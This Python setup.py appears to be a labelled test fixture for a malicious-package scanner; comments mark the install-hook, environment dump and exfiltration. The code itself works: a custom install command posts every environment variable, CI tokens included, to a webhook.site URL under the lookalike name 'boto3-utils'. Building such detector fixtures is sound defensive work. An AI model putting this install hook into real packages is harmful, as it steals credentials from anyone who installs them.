# ruff: noqa
# fmt: off
"""An install override that posts the environment (CI tokens) to a webhook collector."""
import json
import os
import urllib.request

from setuptools import setup
from setuptools.command import install as _install


class Install(_install.install):  # expect: install-hook
    def run(self):
        body = json.dumps(dict(os.environ)).encode()  # expect: env-dump
        urllib.request.urlopen("https://webhook.site/6f1c0d2e-4e8b", data=body)  # expect: install-hook, exfiltrate-sensitive-data, suspicious-url
        _install.install.run(self)


setup(name="boto3-utils", version="1.0", cmdclass={"install": Install})  # expect: install-hook
